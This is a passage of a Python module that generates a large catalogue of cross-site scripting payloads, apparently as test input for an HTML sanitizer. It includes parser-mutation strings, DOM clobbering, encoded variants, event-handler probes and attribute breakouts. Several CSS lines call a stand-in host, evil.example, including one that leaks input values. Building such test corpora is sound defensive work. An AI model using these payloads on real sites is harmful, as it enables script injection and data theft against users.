    "color:red;/*</style><img src=x: onerror=alert(1)>*/",
    "color:red}</style><script>alert(1)</script>",
    "@import 'javascript:alert(1)'",
    "@import url(//evil.example/x.css)",
    "@im\\port'//evil.example'",
    "@font-face{font-family:x;src:url(//evil.example/x)}",
    "@charset 'utf-7';+ADw-script+AD4-alert(1)",
    "<!-- x --> p{color:red}",
    "p{--x:url(javascript:alert(1))}",
    "input[value^=a]{background:url(//evil.example/a)}",
    "@keyframes x{from{color:red}}p{animation:x 1s}",
)

#: `{}` is a style.
STYLED = (
    '<p style="{}">x</p>',
    "<style>{}</style><p>x</p>",
    '<svg><style>{}</style><rect style="{}" fill="url({})" filter="url({})" /></svg>',
)

# --- markup that means another thing when it is read again ------------------------------------------------------------

#: The markup to which a mutation leads.
CORE = "<img src=x: onerror=alert(1)>"

#: `{}` is the core, already quoted for a title where it stands in one.
MUTATIONS = (
    '<noscript><p title="</noscript>{}"></noscript>',
    "<noscript><!--</noscript>{}--></noscript>",
    "<noscript><style></noscript>{}</style></noscript>",
    '<title><p title="</title>{}"></title>',
    "<title><!--</title>{}--></title>",
    '<textarea><p title="</textarea>{}"></textarea>',
    "<textarea><!--</textarea>{}--></textarea>",
    '<xmp><p title="</xmp>{}"></xmp>',
    "<xmp><!--</xmp>{}--></xmp>",
    '<noembed><p title="</noembed>{}"></noembed>',
    '<noframes><p title="</noframes>{}"></noframes>',
    '<iframe><p title="</iframe>{}"></iframe>',
    '<style><p title="</style>{}"></style>',
    "<style><!--</style>{}--></style>",
    '<script><p title="</script>{}"></script>',
    '<plaintext><p title="</plaintext>{}">',
    "<plaintext>{}",
    "<listing>&lt;img src=x: onerror=alert(1)&gt;</listing>{}",
    "<template>{}</template>",
    "<template><p title='</template>{}'></template>",
    "<template><template>{}</template></template>",
    '<select><template><style><!--</style><a rel="--></style></template></select>{}">',
    "<select><option>{}</select>",
    "<select><style></select>{}</style></select>",
    "<select><script></select>{}</script>",
    "<select><svg>{}</svg></select>",
    "<select><math><mtext>{}</select>",
    "<select><noscript></select>{}</noscript></select>",
    "<select><iframe></select>{}</iframe></select>",
    "<option><style></option></select>{}</style></option>",
    "<optgroup><style></optgroup>{}</style>",
    "<table><tr><td><select><template>{}</template></table>",
    "<table>{}<tr><td>x</table>",
    "<table><caption><svg><title>{}</caption></table>",
    "<table><caption><table></caption>{}</table></table>",
    "<table><style><table></style>{}</table>",
    "<table><colgroup>{}<col></colgroup></table>",
    "<table><tr><svg><desc><td>{}</table>",
    "<table><a href=x><table><a href=y>{}</table>",
    "<table><tbody><select><tr>{}</select></table>",
    "<table><form><table></form><form>{}</table>",
    "<p><table><p>{}</table></p>",
    '<svg></p><style><a id="</style>{}">',
    '<svg><p><style><g title="</style>{}"></p></svg>',
    "<svg><style>&lt;/style&gt;{}</style></svg>",
    "<svg><style><!--</style>{}--></style></svg>",
    "<svg><style><![CDATA[</style>{}]]></style></svg>",
    '<svg><![CDATA[><image xlink:href="]]>{}"></svg>',
    '<svg><desc><style><a title="</style></desc></svg>{}"></svg>',
    '<svg><title><style><a title="</style></title></svg>{}"></svg>',
    '<svg><title><template><p title="</template></title>{}"></svg>',
    '<svg><foreignObject><style><a title="</style>{}"></foreignObject></svg>',
    '<svg><foreignobject><math><mi><style><!--</style><a title="--></style>{}">',
    "<svg><desc><noscript></desc></svg>{}</noscript>",
    '<svg><font color=x><style><a title="</style>{}">',
    '<svg><br><style><a title="</style>{}">',
    '<svg></br><style><a title="</style>{}">',
    "<svg><a><style>{}</style></a></svg>",
    '<svg><xmp><a title="</xmp>{}"></svg>',
    '<svg><textarea><a title="</textarea>{}"></svg>',
    '<svg><noscript><a title="</noscript>{}"></svg>',
    '<svg><iframe><a title="</iframe>{}"></svg>',
    "<svg><title>&lt;/title&gt;{}</title></svg>",
    "<svg><animate xlink:href=#x attributeName=href values='&#106;avascript:alert(1)' /><a id=x>{}</a></svg>",
    "<math><mtext><table><mglyph><style><!--</style>{}--></style></mglyph></table></mtext></math>",
    '<math><mtext><table><mglyph><style><math title="</style>{}">',
    "<form><math><mtext></form><form><mglyph><style></math>{}</style></mglyph></form></mtext></math>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>{}">',
    '<form><math><mtext></form><form><mglyph><style><!--</style><a title="--></style>{}">',
    '<math><mtext><option><fake><option></option><mglyph><svg><mtext><style><a title="</style>{}">',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>{}"></style></h1>',
    "<math><mtext><h1><h1><mglyph><style><!--</style>{}--></style>",
    "<math><mtext><a><a><mglyph><style><!--</style>{}--></style>",
    "<math><mtext><p><table><mglyph><style>{}</style></mglyph></table>",
    "<math><mi><ul><li><ul><li><mglyph><style><!--</style>{}-->",
    '<math><annotation-xml encoding=text/html><style><a title="</style>{}"></annotation-xml></math>',
    '<math><annotation-xml encoding="text/html"><xmp><a title="</xmp>{}"></annotation-xml></math>',
    "<math><annotation-xml encoding=application/xhtml+xml><style>{}</style></annotation-xml></math>",
    '<math><annotation-xml><svg><foreignObject><style><a title="</style>{}">',
    "<math><annotation-xml encoding=x><p><style><!--</style>{}-->",
    "<math><semantics><annotation-xml encoding=TEXT/HTML>{}</annotation-xml></semantics></math>",
    '<math><mglyph><svg><mtext><textarea><path id="</textarea>{}">',
    "<math><malignmark><style><!--</style>{}--></style></malignmark></math>",
    '<math></p><style><!--</style><a title="-->{}">',
    "<math></br><style><!--</style>{}-->",
    "<math><xss><style><!--</style>{}--></style></xss></math>",
    "<math><mtext></mtext><style></math>{}</style>",
    '<math><style><a title="</style>{}"></math>',
    "<math><mi><style>{}</style></mi></math>",
    '<math><mo><svg><mi><style><a title="</style>{}">',
    "<math><ms><table><ms><style>{}</style></table></math>",
    "<math><svg><style><!--</style>{}--></style></svg></math>",
    '<p><svg><style><p title="</style></svg>{}"></p>',
    "<form><p><form></p></form>{}</form>",
    "<form id=a><p></form><form id=b>{}</form>",
    "<a><p><a>{}</a></p></a>",
    "<b><p><b><a><table><a>{}</table></b></p></b>",
    "<button><p><button>{}</button></p></button>",
    "<nobr><p><nobr>{}</nobr></p></nobr>",
    "<p><p><h1><p></h1></h2>{}",
    "<h1><h2>{}</h1></h2>",
    "<li><li><p></li></ul>{}",
    "<dd><dl><dt></dd>{}</dl>",
    "<ruby><rt><rp><rtc>{}</ruby>",
    "<body><frameset></frameset><body>{}",
    "<head><noscript><style>{}</style></noscript></head>",
    "<html><head><title>{}</title></head><body>{}</body></html>",
    "<!doctype html><html><body>{}</body></html>",
    "<!DOCTYPE x [<!ENTITY y '{}'>]><x>&y;</x>",
    '<!doctype "{}">{}',
    "<!-->{}-->",
    "<!--->{}-->",
    "<!---->{}",
    "<!-- --!>{}-->",
    "<!-- -- >{}-->",
    "<!-- --\x00>{}-->",
    "<!-- -\x00->{}-->",
    "<!--!>{}-->",
    "<!--<!-->{}-->",
    "<!--<!---->{}-->",
    "<!-- <!-- --> {} -->",
    "<!-- `{}` -->{}",
    "<!- {} ->",
    "<! {}>{}",
    "<!a title='>{}'>",
    "<!x '>{}>",
    "<![CDATA[{}]]>",
    "<![CDATA[>{}]]>",
    "<![CDATA[<!--]]>{}-->",
    "<![if gte IE 5]>{}<![endif]>",
    "<!--[if IE]>{}<![endif]-->",
    "<!--[if !IE]><!-->{}<!--<![endif]-->",
    "<!--[if gte IE 4]>-->{}<![endif]-->",
    "<?php echo '{}' ?>",
    "<?xml version='1.0'?>{}",
    "<?x >{}?>",
    "<?x '?>{}'?>",
    "<% {} %>",
    "<%= '>{}' %>",
    "</ {}>",
    "</a title='>{}'>",
    "</p title='>'{}'>",
    "</ title='>{}'>",
    "</\x00p>{}",
    "</1>{}",
    "<1>{}",
    "<>{}</>",
    "< {}",
    "<<{}>",
    "<a<b>{}</a<b>",
    "<a<{}",
    "<p<img src=x: onerror=alert(1)>{}",
    "<p title='x' <{}",
    '<p title="{}',
    "<p title='{}",
    "<p title=`{}`>",
    "<p title=`x{}",
    "<p title=x`{}",
    "<p title=\"x'\"'>{}'>",
    '<p title=\'x"\'">{}">',
    "<p \"title='>{}'>",
    "<p title==\"'>{}'\">",
    "<p title=&quot;>{}",
    '<p title=\x00">{}">',
    '<p title\x00="">{}',
    "<p/title='/>{}'>",
    "<p a=1 a='>{}' a=2>",
    "<p title='&lt;{}&gt;'>x</p>",
    '<img alt="<x" src="https://example.org/a.png" title="</x>{}">',
    "<img alt='`' src='https://example.org/a.png' title='` onerror=alert(1) `'>{}",
    "<a href='https://example.org/' title='&lt;/a&gt;{}'>x</a>",
    "<abbr title='--&gt;{}'>x</abbr>",
    "<abbr title='</abbr>{}'>x</abbr>",
    "<abbr title=']]>{}'>x</abbr>",
    "<abbr title='</title></textarea></style></script></xmp></noscript>{}'>x</abbr>",
    "<pre>\n\n{}</pre>",
    "<pre><listing>\n{}</listing></pre>",
    "<image>{}</image>",
    "<isindex prompt='{}'>",
    '<isindex label="x" action="javascript:alert(1)">{}',
    "<marquee>{}</marquee>",
    "<keygen>{}</keygen>",
    "<menu><menuitem>{}</menuitem></menu>",
    "<x-a><y-b>{}</y-b></x-a>",
    "<xml><![CDATA[{}]]></xml>",
    "<xml:namespace prefix=t>{}",
    "<t:set attributename=innerHTML to='{}'>",
    "<html xmlns:x='http://www.w3.org/1999/xhtml'><x:script>alert(1)</x:script>{}",
    "<svg:svg><svg:script>alert(1)</svg:script></svg:svg>{}",
    "<html:script>alert(1)</html:script>{}",
    "&lt;/p&gt;<p>{}",
    "x\x00<{}",
    "\ufeff{}",
    "{}\x00",
)

# --- the rest --------------------------------------------------------------------------------------------------------

CLOBBERED = (
    "body cookie documentElement createElement getElementById querySelector querySelectorAll implementation forms "
    "images links location defaultView domain URL baseURI head title children attributes firstChild parentNode "
    "nodeName innerHTML appendChild removeChild getAttribute setAttribute hasChildNodes currentScript alert self top "
    "constructor __proto__ toString valueOf length name content config"
)

#: `{}` is the name of a property.
CLOBBERING = (
    '<img id="{}" name="{}" src=x: onerror=alert(1)>',
    '<a id="{}" href="javascript:alert(1)">x</a><a id="{}" name="x" href="https://evil.example/">y</a>',
    '<form id="{}" name="{}" onclick=alert(1)><input name="{}"><output id="attributes">x</output></form>',
)

ESCAPED = (
    "<script>alert(1)</script>",
    "<img src=x: onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<svg onload=alert(1)>'></iframe>",
    "</p><details open ontoggle=alert(1)>",
)

ENCODED = (
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "+ADw-img src=x onerror=alert(1)+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\74script\\76alert(1)\\74/script\\76",
    "\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe",
    "\xe0\x80\xbcscript\xe0\x80\xbealert(1)",
    "\xbcscript\xbealert(1)\xbc/script\xbe",
    "\u00bcscript\u00bealert(1)",
    "\u2039script\u203aalert(1)\u2039/script\u203a",
    "\u3008script\u3009alert(1)",
    "\ufe64script\ufe65alert(1)\ufe64/script\ufe65",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "\x1b$@<script>alert(1)</script>\x1b(B",
    "~{<script>alert(1)</script>~}",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "&#60script&#62alert(1)&#60/script&#62",
    "&LT;script&GT;alert(1)&LT;/script&GT;",
    "&ltscript&gtalert(1)&lt/script&gt",
    "&lt;&lt;script>alert(1)</script>",
    "&<script>alert(1)</script>",
    "&#<img src=x: onerror=alert(1)>",
    "&amp<img src=x: onerror=alert(1)>",
    "&#x110000;<svg onload=alert(1)>",
    "&#xD800;&#xDC00;<svg onload=alert(1)>",
    "&#128;&#x9f;<svg onload=alert(1)>",
    "\u202e<svg onload=alert(1)>\u202c",
    "\ufdd0\U0001fffe<svg onload=alert(1)>",
    "<img src=x: onerror\u3000=alert(1)>",
    "<img src=x: \u2028onerror=alert(1)>",
    "<svg\u00a0onload=alert(1)>",
    "<svg onload\x00=alert(1)>",
    "<\uff53cript>alert(1)</\uff53cript>",
    "<\u017fvg onload=alert(1)>",
    "\x08<svg onload=alert(1)>\x7f",
    "\x85<svg onload=alert(1)>\x9b",
)

MODERN = (
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<dialog id=d oncancel=alert(1) ontoggle=alert(1)>x</dialog><button command=show-modal commandfor=d>x</button>",
    "<dialog open onbeforetoggle=alert(1)>x</dialog>",
    "<p popover id=x onbeforetoggle=alert(1)>x</p><button popovertarget=x>x</button>",
    "<p popover id=x ontoggle=alert(1)>x</p><button popovertarget=x popovertargetaction=show>x</button>",
    "<p popover=manual id=x ontoggle=alert(1)>x</p>",
    "<p popover=hint id=y onbeforetoggle=alert(1)>x</p><a interestfor=y href=#>x</a>",
    "<button commandfor=x command=--y>x</button><p id=x oncommand=alert(1)>x</p>",
    "<input type=hidden popover id=x onbeforetoggle=alert(1)><button popovertarget=x>x</button>",
    "<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
    "<p hidden=until-found onbeforematch=alert(1)>x</p><a href=#:~:text=x>x</a>",
    "<details name=x ontoggle=alert(1) open>x</details><details name=x>y</details>",
    "<div><template shadowrootmode=open><img src=x: onerror=alert(1)></template></div>",
    "<div><template shadowrootmode=closed><script>alert(1)</script></template></div>",
    "<div><template shadowrootmode=open><slot onslotchange=alert(1)></slot></template>x</div>",
    "<div><template shadowrootmode=open><style>:host{color:red}</style><svg onload=alert(1)></template></div>",
    "<div><template shadowroot=open><img src=x: onerror=alert(1)></template></div>",
    "<p><template shadowrootmode=open shadowrootclonable><a href=javascript:alert(1)>x</a></template></p>",
    "<x-y><template shadowrootmode=open shadowrootdelegatesfocus><input autofocus onfocus=alert(1)></template></x-y>",
    "<template><script>alert(1)</script></template>",
    "<template id=t><img src=x: onerror=alert(1)></template><script>document.body.append(t.content)</script>",
    "<slot name=x><img src=x: onerror=alert(1)></slot>",
    "<selectlist><button type=selectlist onclick=alert(1)>x</button></selectlist>",
    "<select><button><selectedcontent onclick=alert(1)></selectedcontent></button><option>{}</option></select>",
    "<search onclick=alert(1)>x</search>",
    "<permission type=geolocation onclick=alert(1)></permission>",
    "<input is=x-y onfocus=alert(1) autofocus>",
    "<p is=x-y onclick=alert(1)>x</p>",
    "<p slot=x part=y onclick=alert(1)>x</p>",
    "<p inert onclick=alert(1)>x</p>",
    "<p itemscope itemtype=javascript:alert(1) itemid=javascript:alert(1) onclick=alert(1)>x</p>",
    "<p data-bind='alert(1)' x-init=alert(1) v-html=alert(1) ng-init=alert(1) hx-on:click=alert(1)>{{1}}</p>",
    "<p :onclick=alert(1) @click=alert(1) (click)=alert(1) [onclick]=alert(1) onclick=alert(1)>x</p>",
    "<p class=x id=y name=z style=color:red>x</p>",
    "<object form=x><param name=x></object>",
    "<meter onmouseover=alert(1) value=1></meter><progress onmouseover=alert(1)></progress>",
    "<output onclick=alert(1)>x</output><fieldset onclick=alert(1)><legend onclick=alert(1)>x</legend></fieldset>",
    "<datalist id=l><option value=x onclick=alert(1)></datalist><input list=l onclick=alert(1)>",
    "<colgroup onclick=alert(1)><col onclick=alert(1)></colgroup><b onclick=alert(1)>x</b>",
    "<geolocation onclick=alert(1)></geolocation><model src=x: onerror=alert(1)></model>",
)

# --- where it stands in an article -----------------------------------------------------------------------------------

#: Attacks to be nested in what articles are made of.
NESTED = (
    "<script>alert(1)</script>",
    "<img src=x: onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source src=x: onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x: onerror=alert(1)&gt;'>",
    '<noscript><p title="</noscript><img src=x: onerror=alert(1)>"></noscript>',
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<p onclick=alert(1) style=color:red class=x id=y>x</p>",
    "<input autofocus onfocus=alert(1)>",
    "<img src=x: onerror='alert(1)",
    "<style>*{color:red}</style><link rel=stylesheet href=x: onerror=alert(1)>",
)

#: `{}` is where an attack stands.
CONTEXTS = (
    "<p>正文{}继续</p>",
    "<p>a<br>{}<br>b</p>",
    "<h2>{}</h2><p>正文</p>",
    "<ul><li>{}</li><li>x</li></ul>",
    "<ol><li>x<p>{}</ol>",
    "<dl><dt>{}<dd>x</dl>",
    "<blockquote cite='https://example.org/'><p>{}</p></blockquote>",
    "<table><tr><td>{}</td><th>x</th></tr></table>",
    "<table><caption>{}</caption><tbody><tr><td>x</td></tr></tbody></table>",
    "<table><tr>{}<td>x</td></tr></table>",
    "<figure><img src='https://example.org/a.png'><figcaption>{}</figcaption></figure>",
    "<pre><code>{}</code></pre>",
    "<a href='https://example.org/'>x{}y</a>",
    "<ruby>汉<rp>(</rp><rt>{}</rt><rp>)</rp></ruby>",
    "<details><summary>{}</summary>x</details>",
    "<div><div><div><b><i><u>{}</u></i></b></div></div></div>",
    "<video src='https://example.org/a.mp4' controls>{}</video>",
    "<strong><em>{}",
    "</p></div></article>{}",
    "<p>1 < 2 && 3 > 2{}</p>",
)

#: `{}` is an attack, as it is or escaped: attributes that hold text.
TEXT_PLACES = (
    '<img src="https://example.org/a.png" alt="{}">',
    "<img src='https://example.org/a.png' alt='{}'>",
    '<img src="https://example.org/a.png" title="{}">',
    '<a href="https://example.org/" title="{}">x</a>',
    "<a href=https://example.org/ title={}>x</a>",
    "<abbr title='{}'>x</abbr>",
    '<abbr title="x">{}</abbr>',
    '<time datetime="{}">x</time>',
    '<a href="https://example.org/?q={}">x</a>',
    '<img src="https://example.org/{}.png">',
    "<title>{}</title><p>x</p>",
    "<p>{}</p>",
)

#: Ends what it stands in, and begins to run.
BREAKOUTS = (
    '"><img src=x: onerror=alert(1)>',
    "'><img src=x: onerror=alert(1)>",
    '" onerror="alert(1)',
    "' onmouseover='alert(1)",
    "x onmouseover=alert(1) ",
    "`` onerror=alert(1)",
    "--><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></style></xmp></noscript><svg onload=alert(1)>",
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    "&quot;&gt;<script>alert(1)</script>",
    '\\"><svg onload=alert(1)>',
    "]]><svg onload=alert(1)>",
)


def _place(template: str, value: str) -> str:
    return template.replace("{}", value)


def _scripts() -> Iterator[str]:
    yield from SCRIPTS


def _handlers() -> Iterator[str]:
    """Every element, and every event at least once."""
    events = cycle(EVENTS.split())
    for element in ELEMENTS.split():
        yield f"<{element} on{next(events)}=alert(1) onclick=alert(1)>x</{element}>"
    for element in SVG_ELEMENTS.split():
        yield f"<svg><{element} on{next(events)}=alert(1)>x</{element}></svg>"
    for element in MATH_ELEMENTS.split():
        yield f"<math><{element} on{next(events)}=alert(1)>x</{element}></math>"
    for event in EVENTS.split():
        yield f"<p on{event}=alert(1)>x</p>"


def _spellings() -> Iterator[str]:
    for element in SPELLED_ELEMENTS:
        yield from (_place(spelling, element) for spelling in SPELLINGS)


def _broken_sources() -> Iterator[str]:
    yield from (_place(LOADERS[0], source) for source in BROKEN)
    sources = cycle(BROKEN)
    for loader in LOADERS[1:]:
        yield from (_place(loader, next(sources)) for _ in range(4))


def _links() -> Iterator[str]:
    yield from (_place(PLACES[0], address) for address in ADDRESSES)


def _addresses() -> Iterator[str]:
    for place in PLACES[1:]:
        yield from (_place(place, address) for address in COMMON_ADDRESSES)


def _styles() -> Iterator[str]:
    for styled in STYLED:
        yield from (_place(styled, style) for style in STYLES)


def _mutations() -> Iterator[str]:
    yield from (_place(mutation, CORE) for mutation in MUTATIONS)
    # The same where the core only becomes markup when it has been read once more.
    yield from (_place(mutation, html.escape(CORE)) for mutation in MUTATIONS if 'title="' in mutation)


def _clobbering() -> Iterator[str]:
    for number, name in enumerate(CLOBBERED.split()):
        yield _place(CLOBBERING[number % len(CLOBBERING)], name)


def _escaped() -> Iterator[str]:
    for attack in ESCAPED:
        once = html.escape(attack)
        twice = html.escape(once)
        numbered = "".join(f"&#{ord(character)};" for character in attack)
        yield from (once, twice, numbered, html.escape(numbered), f"<p>{once}</p>", f"<pre>{twice}</pre>{attack}")


def _nested() -> Iterator[str]:
    for context in CONTEXTS:
        yield from (_place(context, attack) for attack in NESTED)


def _in_text() -> Iterator[str]:
    for place in TEXT_PLACES:
        for breakout in BREAKOUTS:
            yield _place(place, breakout)
            yield _place(place, html.escape(breakout))


def _all() -> Iterator[Payload]:
    classes = {
        "script": _scripts(),
        "handler": _handlers(),
        "spelling": _spellings(),
        "broken source": _broken_sources(),
        "firing": FIRING,
        "link": _links(),
        "address": _addresses(),
        "frame": FRAMES,
        "style": _styles(),
        "mutation": _mutations(),
        "clobbering": _clobbering(),
        "escaped": _escaped(),
        "encoded": ENCODED,
        "modern": MODERN,
        "nested": _nested(),
        "in text": _in_text(),
    }
    seen: set[str] = set()
    for kind, texts in classes.items():
        for text in texts:
            if text not in seen:
                seen.add(text)
                yield Payload(kind, text)


#: All of them, each once, in an order that does not change.
PAYLOADS: tuple[Payload, ...] = tuple(_all())
